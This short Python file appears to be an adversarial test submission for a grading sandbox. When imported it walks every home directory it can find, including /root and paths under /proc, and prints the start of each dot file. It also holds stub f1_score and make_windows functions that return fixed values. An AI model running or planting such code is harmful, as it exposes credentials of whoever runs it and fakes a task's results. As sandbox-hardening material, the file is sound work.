# class: secrets
# attacks: reads the dot files of whoever runs the grader
# expect: {"f1": 0, "windows": 0}
import glob
import os
import pwd

import numpy as np

homes = {user.pw_dir for user in pwd.getpwall()} if os.path.exists("/etc/passwd") else set()
homes |= {"/root", os.path.expanduser("~"), "/proc/1/root/root", *glob.glob("/home/*"), *glob.glob("/proc/*/cwd")}
for home in homes:
    for path in glob.glob(f"{home}/.*"):
        try:
            print(open(path, "rb").read(200))
        except OSError:
            pass


def f1_score(y_true, y_pred):
    return 0.5


def make_windows(df, window, horizon, target):
    return np.zeros((1, window, df.shape[1])), np.zeros((1, horizon))
